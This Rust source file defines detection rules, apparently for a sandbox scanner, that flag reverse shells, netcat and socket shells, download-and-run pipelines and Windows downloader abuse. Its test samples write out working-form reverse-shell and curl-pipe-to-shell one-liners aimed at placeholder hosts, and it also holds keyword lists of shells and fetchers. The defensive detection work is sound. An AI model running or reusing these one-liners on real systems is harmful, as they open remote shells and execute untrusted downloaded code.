//! Shells that somebody else types in, and programs that run what they have just downloaded.

use sandbox_types::RiskLevel::{Critical, Medium};

use super::{ContentRule, Match, When, scripts::CODE};
use crate::content::window::Window;

/// Shows the whole line, unless it is a comment.
pub(super) fn when(window: &Window<'_>, holds: bool) -> Option<Match> {
    (holds && !window.is_comment()).then(|| Match::Shown(window.line()))
}

/// Returns whether the line holds one of the words.
pub(super) fn has(line: &str, words: &[&str]) -> bool {
    words.iter().any(|word| line.contains(word))
}

const SHELLS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "bash -i",
    "sh -i",
    "cmd.exe",
    "powershell",
    "/system/bin/sh",
];
const FETCHERS: &[&str] = &["curl ", "wget ", "fetch ", "lwp-request ", "aria2c "];

pub(super) static RULES: &[ContentRule] = &[
    ContentRule {
        id: "script.reverse-shell",
        severity: Critical,
        message: "ties a shell to a connection",
        when: When::Around(&["/dev/tcp/", "/dev/udp/"], |window| {
            let line = window.line_text();
            when(
                window,
                has(
                    &line,
                    &[
                        "sh -i",
                        "0>&1",
                        "0<&",
                        "<&1",
                        "exec /bin/",
                        "<&5",
                        "sh <&",
                        "sh>&",
                        "| sh",
                        "|sh",
                    ],
                ),
            )
        }),
        matches: &[
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read line; do $line 2>&5 >&5; done",
        ],
        spares: &[
            "(echo > /dev/tcp/localhost/5432) 2>/dev/null",
            "# bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.netcat-shell",
        severity: Critical,
        message: "gives a shell to whoever connects, by netcat or socat",
        when: When::Around(
            &["nc ", "ncat ", "netcat ", "socat ", "nc.exe "],
            |window| {
                let line = window.line_text();
                let given = has(
                    &line,
                    &[
                        "-e /bin/",
                        "-e sh",
                        "-e bash",
                        "-c /bin/",
                        "-c bash",
                        "-c sh",
                        "-e cmd",
                        "exec:sh",
                        "exec:/bin/",
                        "exec:'bash",
                        "exec:\"bash",
                        "exec:bash",
                        "system:bash",
                    ],
                );
                let piped = has(&line, &["mkfifo", "mknod"])
                    && has(&line, &["sh -i", "/bin/sh", "/bin/bash"]);
                when(window, window.begins_name() && (given || piped))
            },
        ),
        matches: &[
            "nc -e /bin/sh 10.0.0.1 4242",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 >/tmp/f",
            "socat tcp-connect:10.0.0.1:4242 exec:/bin/sh,pty,stderr",
        ],
        spares: &[
            "nc -z localhost 80",
            "func -c sh",
            "socat TCP-LISTEN:80,fork TCP:web:80",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.socket-shell",
        severity: Critical,
        message: "ties a shell to a socket",
        when: When::Around(
            &[
                "os.dup2(",
                "pty.spawn(",
                "fsockopen(",
                "TCPSocket.new",
                "TCPSocket.open",
                "new net.Socket",
                "net.connect(",
                "PF_INET",
                "Sockets.TCPClient",
            ],
            |window| {
                let connects =
                    window.has_near(&["socket", "sockopen", "connect", "tcpclient"], 600);
                let shell = window.has_near(SHELLS, 600);
                let tied = window.has_near(
                    &[
                        "dup2(",
                        "pty.spawn(",
                        "exec(",
                        "exec {",
                        "exec{",
                        "popen",
                        "proc_open",
                        "spawn(",
                        "iex ",
                        "invoke-expression",
                        "while(cmd",
                        "open(stdin",
                    ],
                    600,
                );
                when(window, connects && shell && tied)
            },
        ),
        matches: &[
            "import socket,os,pty\ns=socket.socket()\ns.connect((\"10.0.0.1\",4242))\nos.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")",
            "php -r '$s=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        ],
        spares: &[
            "os.dup2(null, 1)",
            "sock = TCPSocket.new('localhost', 80)",
            "pty.spawn('/bin/sh')",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.download-execute",
        severity: Medium,
        message: "runs what it has just downloaded",
        suggestion: "download to a file, check its digest, then run it",
        when: When::Around(
            &[
                "| sh",
                "|sh",
                "| bash",
                "|bash",
                "| zsh",
                "|zsh",
                "| /bin/sh",
                "| /bin/bash",
                "| sudo ",
                "|sudo ",
                "| python",
                "|python",
                "| perl",
                "| node",
                "| ruby",
            ],
            |window| {
                let line = window.line_text();
                let (before, after) = line.split_once('|').unwrap_or((&line, ""));
                let runs = after.split(['|', ';', '&']).any(runs_input);
                when(
                    window,
                    has(before, FETCHERS) && before.contains("http") && runs,
                )
            },
        ),
        matches: &[
            "curl -fsSL https://example.com/install.sh | sh",
            "wget -qO- https://example.com/x | sudo bash -s -- -y",
        ],
        spares: &[
            "curl https://example.com/data.json | python3 -m json.tool",
            "echo ls | sh",
            "# curl https://example.com | sh",
            "@README.md|curl https://example.com | sh",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.download-evaluate",
        severity: Medium,
        message: "evaluates what it has just downloaded",
        suggestion: "download to a file, check its digest, then run it",
        when: When::Around(
            &[
                "<(curl",
                "<(wget",
                "$(curl",
                "$(wget",
                "`curl",
                "`wget",
                "-c \"$(curl",
                "urlopen(",
                "requests.get(",
            ],
            |window| {
                let line = window.line_text();
                let shell = has(
                    &line,
                    &[
                        "sh <(",
                        "bash <(",
                        ". <(",
                        "source <(",
                        "eval \"$(",
                        "eval $(",
                        "eval \"`",
                        "eval `",
                        "sh -c \"$(",
                        "sh -c \"`",
                        "python -c \"$(",
                        "python3 -c \"$(",
                    ],
                );
                let python = has(
                    &line,
                    &[
                        "exec(urlopen(",
                        "exec(urllib",
                        "exec(requests.get(",
                        "eval(requests.get(",
                        "exec(compile(urlopen(",
                    ],
                );
                when(window, shell && line.contains("http") || python)
            },
        ),
        matches: &[
            "bash <(curl -s https://example.com/x)",
            "eval \"$(curl -fsSL https://example.com/x)\"",
            "exec(requests.get('https://example.com/x').text)",
        ],
        spares: &[
            "VERSION=$(curl -s https://example.com/version)",
            "data = requests.get(url)",
        ],
        ..CODE
    },
    ContentRule {
        id: "script.powershell-download",
        message: "runs what PowerShell downloads",
        when: When::Around(
            &["DownloadString(", "Invoke-WebRequest", "iwr ", "irm "],
            |window| {
                let line = window.line_text();
                when(
                    window,
                    window.begins_name()
                        && has(&line, &["iex", "invoke-expression"])
                        && line.contains("http"),
                )
            },
        ),
        matches: &[
            "IEX (New-Object Net.WebClient).DownloadString('http://example.com/x.ps1')",
            "irm https://example.com/x | iex",
        ],
        spares: &["Invoke-WebRequest https://example.com -OutFile x"],
        severity: Medium,
        ..CODE
    },
    ContentRule {
        id: "script.windows-downloader",
        message: "downloads and runs with a program of Windows that is meant for something else",
        when: When::Around(&["certutil", "bitsadmin", "mshta ", "regsvr32"], |window| {
            let line = window.line_text();
            let used = has(
                &line,
                &[
                    "-urlcache",
                    "/transfer",
                    "mshta http",
                    "mshta.exe http",
                    "/i:http",
                ],
            );
            when(window, used && line.contains("http"))
        }),
        matches: &[
            "certutil -urlcache -split -f http://example.com/a.exe a.exe",
            "mshta http://example.com/x.hta",
        ],
        spares: &["certutil -hashfile a.zip SHA256"],
        ..CODE
    },
];

/// Returns whether a part of a pipeline is an interpreter that runs its input.
fn runs_input(part: &str) -> bool {
    let mut words = part.split(' ').filter(|it| !it.is_empty());
    let mut program = words.next().unwrap_or_default();
    while matches!(
        program,
        "sudo" | "env" | "exec" | "-e" | "-h" | "-s" | "command" | "nohup"
    ) {
        program = words.next().unwrap_or_default();
    }
    let program = program.rsplit('/').next().unwrap_or(program);
    let program = program.trim_end_matches(|c: char| {
        c.is_ascii_digit() || c == '.' || c == ')' || c == '"' || c == '\''
    });
    let next = words.next().unwrap_or_default();
    match program {
        "sh" | "bash" | "zsh" | "dash" | "ksh" => next != "-c",
        "python" | "perl" | "ruby" | "node" | "php" => {
            matches!(next, "" | "-" | "-u" | "-s" | "-)")
        }
        _ => false,
    }
}
